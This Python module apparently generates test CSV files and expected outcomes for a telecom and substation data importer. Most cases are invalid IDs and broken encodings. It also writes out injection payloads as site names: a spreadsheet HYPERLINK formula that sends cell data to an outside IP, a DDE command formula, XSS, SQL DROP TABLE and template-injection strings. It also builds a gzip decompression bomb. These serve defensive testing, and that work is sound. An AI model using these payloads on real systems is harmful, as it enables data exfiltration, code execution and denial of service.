"""A folder of files that an import has to withstand: each with what has to be said about it in ``expected.json``.

Lines count from 1 and the header is line 1. ``outcome`` is ``rows`` (the named lines are refused, the others are good),
``file`` (the whole file is refused before any row is taken) or ``taken`` (strange but right: every row is good, and the
text must come out again as it went in, harmless wherever it is shown).
"""

import csv
import gzip
import io
import json
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path

from tieline.lab.world.identities import with_luhn
from tieline.lab.world.model import World

_BOMB_MEMBER = 16 * 2**20
_BOMB_MEMBERS = 80
_SPREADSHEET = '=HYPERLINK("http://192.0.2.1/?"&A1,"total")'
_DANGEROUS_NAMES = (
    _SPREADSHEET,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "Robert'); DROP TABLE site;--",
    "{{7*7}} ${7*7}",
    'O\'Brien & Söhne "Nord"',
)
_SUBSCRIPTION = ("subscription_id", "iccid", "eid", "card_type", "imsi", "msisdn", "status", "apn", "fixed_ip")
_SUBSCRIPTION_REST = ("subscription_group", "data_plan", "generation", "contract")
_SUBSTATION = ("id", "dno", "level", "name", "lat", "lon", "households", "region", "kv_up", "postcode")

Table = list[dict[str, str]]


@dataclass(frozen=True, slots=True)
class Wrong:
    """What is wrong with one line: the field in the importer's words, and the broken rule."""

    line: int
    field: str
    rule: str


@dataclass(frozen=True, slots=True)
class Sample:
    """One file: its bytes, what it is, and what has to come of it."""

    file: str
    content: bytes
    kind: str
    mapping: str
    outcome: str
    note: str
    wrong: tuple[Wrong, ...] = ()


def write(world: World, folder: Path) -> None:
    """Write all samples and ``expected.json``; they refer to sites and operators of ``world``."""
    folder.mkdir(parents=True, exist_ok=True)
    samples = [*_subscription_samples(world), *_other_samples(world), *_file_samples()]
    for sample in samples:
        (folder / sample.file).write_bytes(sample.content)
    expected = [
        {
            "file": sample.file,
            "kind": sample.kind,
            "mapping": sample.mapping,
            "outcome": sample.outcome,
            "note": sample.note,
            "wrong": [{"line": w.line, "field": w.field, "rule": w.rule} for w in sample.wrong],
        }
        for sample in samples
    ]
    text = json.dumps(expected, ensure_ascii=False, indent=1) + "\n"
    (folder / "expected.json").write_text(text, encoding="utf-8")


def _csv(rows: Sequence[Mapping[str, str]]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def _subscriptions(world: World, count: int) -> Table:
    """Good rows of Operator A with numbers that no row of the world has."""
    operator = world.terrain.operators[0]
    issuer = "89" + ("44" if operator.mcc == "234" else "999") + operator.mnc
    rows = []
    for number in range(1, count + 1):
        serial = 900_000 + number
        values = [f"A9{number:06d}", with_luhn(f"{issuer}{serial:0{18 - len(issuer)}d}"), "", "plastic"]
        values += [f"{operator.plmn}88{serial:08d}", f"447700901{serial:06d}", "INVENTORY", "", ""]
        rest = ["", "", "4G", "A-2024-GRID"]
        rows.append(dict(zip(_SUBSCRIPTION + _SUBSCRIPTION_REST, values + rest, strict=True)))
    return rows


def _subscription_sample(file: str, rows: Table, note: str, *wrong: Wrong) -> Sample:
    content = _csv(rows).encode()
    return Sample(file, content, "subscription", "operator-a-subscriptions.toml", "rows", note, wrong)


def _with_other_check_digit(digits: str) -> str:
    return digits[:-1] + str((int(digits[-1]) + 1) % 10)


def _subscription_samples(world: World) -> list[Sample]:
    luhn, plmn, eid = _subscriptions(world, 4), _subscriptions(world, 4), _subscriptions(world, 3)
    luhn[1]["iccid"] = _with_other_check_digit(luhn[1]["iccid"])
    luhn[3]["iccid"] = "8944O50000000000017"
    plmn[0]["imsi"] = "26201" + plmn[0]["imsi"][5:]
    plmn[2]["imsi"] = world.terrain.operators[1].plmn + plmn[2]["imsi"][5:]
    eid[1].update(card_type="euicc", eid="89049032123451234512345678901234")
    twice = _subscriptions(world, 5)
    twice[2]["iccid"] = twice[0]["iccid"]
    twice[3]["imsi"] = twice[1]["imsi"]
    twice[4]["subscription_id"] = twice[1]["subscription_id"]
    values = _subscriptions(world, 5)
    values[0]["status"] = "SLEEPING"
    values[1]["fixed_ip"] = "10.300.1.1"
    values[2]["msisdn"] = "+44 (0)7700 nine hundred"
    values[3]["subscription_id"] = ""
    return [
        _subscription_sample(
            "subscriptions-luhn.csv",
            luhn,
            "A wrong check digit; a letter O among the digits.",
            Wrong(3, "iccid", "luhn"),
            Wrong(5, "iccid", "format"),
        ),
        _subscription_sample(
            "subscriptions-other-network.csv",
            plmn,
            "IMSIs of another country's network and of the other operator.",
            Wrong(2, "imsi", "plmn"),
            Wrong(4, "imsi", "plmn"),
        ),
        _subscription_sample(
            "subscriptions-eid.csv", eid, "An EID whose check digits are wrong.", Wrong(3, "eid", "check_digits")
        ),
        _subscription_sample(
            "subscriptions-duplicates.csv",
            twice,
            "ICCID, IMSI and operator's reference that an earlier line of the file has.",
            Wrong(4, "iccid", "duplicate"),
            Wrong(5, "imsi", "duplicate"),
            Wrong(6, "operator_ref", "duplicate"),
        ),
        _subscription_sample(
            "subscriptions-values.csv",
            values,
            "An unknown state, an address that is none, a number with words in it, a missing reference.",
            Wrong(2, "state", "choice"),
            Wrong(3, "ip_address", "format"),
            Wrong(4, "msisdn", "format"),
            Wrong(5, "operator_ref", "required"),
        ),
    ]


def _substation(number: int, **changes: str) -> dict[str, str]:
    values = [
        f"BAD{number:03d}",
        "BAD",
        "primary",
        f"Sample {number}",
        "53.9",
        "-1.1",
        "1200.0",
        "Sample",
        "33",
        "X1 1XX",
    ]
    return dict(zip(_SUBSTATION, values, strict=True)) | changes


def _site_sample(file: str, content: bytes, outcome: str, note: str, *wrong: Wrong) -> Sample:
    return Sample(file, content, "site", "substations.toml", outcome, note, wrong)


def _other_samples(world: World) -> list[Sample]:
    site = world.terrain.sites[0].id
    device = next(d.id for d in world.devices if d.site_id == site)
    head = {"site_id": site, "device_id": device, "modem_slot": "1", "operator": "A", "role": "primary"}
    iccid = world.subscriptions["A"][0].iccid
    links = [
        head | {"iccid": iccid},
        head | {"iccid": iccid, "site_id": "NOWHERE-1"},
        head | {"iccid": iccid, "device_id": "RTR-999999"},
        head | {"iccid": with_luhn("894415000000099999")},
        head | {"iccid": iccid, "role": "spare"},
    ]
    ranges = [
        _substation(1, lat="91"),
        _substation(2, lon="-181"),
        _substation(3, lat="north"),
        _substation(4, id=""),
        _substation(5, kv_up="-33"),
        _substation(6, households="-5"),
        _substation(7),
    ]
    dangerous = [_substation(100 + i, name=name) for i, name in enumerate(_DANGEROUS_NAMES)]
    return [
        Sample(
            "links-unknown.csv",
            _csv(links).encode(),
            "link",
            "links.toml",
            "rows",
            "A site, a device and a card that nobody knows, and a role that there is not. Import after the world.",
            (
                Wrong(3, "site_external_id", "unknown_reference"),
                Wrong(4, "device_external_id", "unknown_reference"),
                Wrong(5, "iccid", "unknown_reference"),
                Wrong(6, "role", "choice"),
            ),
        ),
        _site_sample(
            "sites-ranges.csv",
            _csv(ranges).encode(),
            "rows",
            "Positions off the globe, text for a number, no id, negative figures.",
            Wrong(2, "lat", "range"),
            Wrong(3, "lon", "range"),
            Wrong(4, "lat", "format"),
            Wrong(5, "external_id", "required"),
            Wrong(6, "voltage_kv", "range"),
            Wrong(7, "customers", "range"),
        ),
        _site_sample(
            "sites-names.csv",
            _csv(dangerous).encode(),
            "taken",
            "Names that a spreadsheet, a browser, a database or a template might run. They are text, and stay text.",
        ),
    ]


def _file_samples() -> list[Sample]:
    good = _csv([_substation(200 + i, name=f"Überlandwerk {i}") for i in range(3)])
    unknown = _csv([{"Kennung": "1", "Bezeichnung": "Werk"}])
    ragged = good.rstrip("\n") + ",one,two,three\n" + "BAD299,BAD\n"
    return [
        _site_sample("sites-utf8-bom.csv", good.encode("utf-8-sig"), "taken", "UTF-8 with a byte order mark."),
        _site_sample("sites-cp1252.csv", good.encode("cp1252"), "file", "Not UTF-8: byte 0xDC at the start of a name."),
        _site_sample("sites-utf16.csv", good.encode("utf-16"), "file", "UTF-16, as spreadsheets save 'Unicode text'."),
        _site_sample("sites-nul.csv", good.encode() + b"BAD298,\0\0\0\n", "file", "Zero bytes within the text."),
        _site_sample("sites-unknown-columns.csv", unknown.encode(), "file", "None of the mapping's columns is there."),
        _site_sample(
            "sites-ragged.csv",
            ragged.encode(),
            "rows",
            "A line with more fields than the header, and one with fewer.",
            Wrong(4, "", "columns"),
            Wrong(5, "", "columns"),
        ),
        _site_sample("sites-empty.csv", b"", "file", "An empty file."),
        _site_sample("sites-not-gzip.csv.gz", good.encode(), "file", "Called .gz, and is not."),
        _site_sample("sites-cut.csv.gz", gzip.compress(good.encode(), mtime=0)[:-12], "file", "A gzip file cut short."),
        _site_sample(
            "sites-bomb.csv.gz",
            _bomb(),
            "file",
            f"A small gzip file that unpacks to {_BOMB_MEMBERS * _BOMB_MEMBER // 2**20} MiB of blanks.",
        ),
    ]


def _bomb() -> bytes:
    """Many members of the same blanks: quick to make, small to keep, large when unpacked (RFC 1952 clause 2.2)."""
    header = gzip.compress(",".join(_SUBSTATION).encode() + b"\n", mtime=0)
    return header + gzip.compress(b" " * _BOMB_MEMBER, mtime=0) * _BOMB_MEMBERS
